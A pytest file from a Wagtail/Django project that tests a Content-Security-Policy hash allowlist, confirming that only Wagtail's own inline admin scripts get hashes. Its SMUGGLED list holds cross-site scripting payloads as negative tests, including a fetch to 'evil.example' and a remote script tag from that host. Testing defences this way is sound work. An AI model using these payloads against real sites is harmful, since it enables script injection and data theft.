"""Only the inline scripts that Wagtail itself writes are let through, by their hash."""

import pytest
from django.urls import reverse

from config.admin_scripts import SELECT_ALL, hashes
from tests import loaded

OURS = [
    b'<script>initDateChooser("id_date", {"dayOfWeekStart": 1});</script>',
    b'<script>new PageChooser("id_page", {"modelNames": ["wagtailcore.page"]});</script>',
    b'<script type="text/javascript">' + SELECT_ALL + b"</script>",
]
SMUGGLED = [
    b"<script>alert(1)</script>",
    b'<script>initDateChooser("a", {}); alert(1);</script>',
    b'<script>initDateChooser("a", {"x": alert(1)});</script>',
    b'<script>initDateChooser("a"); fetch("//evil.example")</script>',
    b'<script>new PageChooser("a", {});alert(1)//</script>',
    b'<script src="https://evil.example/x.js"></script>',
    b"<script>" + SELECT_ALL.replace(b"locales[i].checked", b"location.href") + b"</script>",
    b'<SCRIPT>initDateChooser("a", {});</SCRIPT>',
]


@pytest.mark.parametrize("html", OURS)
def test_wagtails_own_scripts_are_known(html):
    (source,) = hashes(b"<p>" + html + b"</p>")
    assert source.startswith("'sha256-")


@pytest.mark.parametrize("html", SMUGGLED)
def test_other_scripts_are_not(html):
    assert hashes(html) == []


def test_the_same_script_is_named_once():
    assert len(hashes(OURS[0] * 3)) == 1


@pytest.mark.django_db
def test_the_box_for_all_languages_works_where_pages_are_handed_to_translators(admin_client):
    page = loaded.page("org:pitebo")
    answer = admin_client.get(reverse("wagtail_localize:submit_page_translation", args=[page.pk]))
    (source,) = [each for each in hashes(answer.content) if each]
    assert source in answer.headers["Content-Security-Policy"]
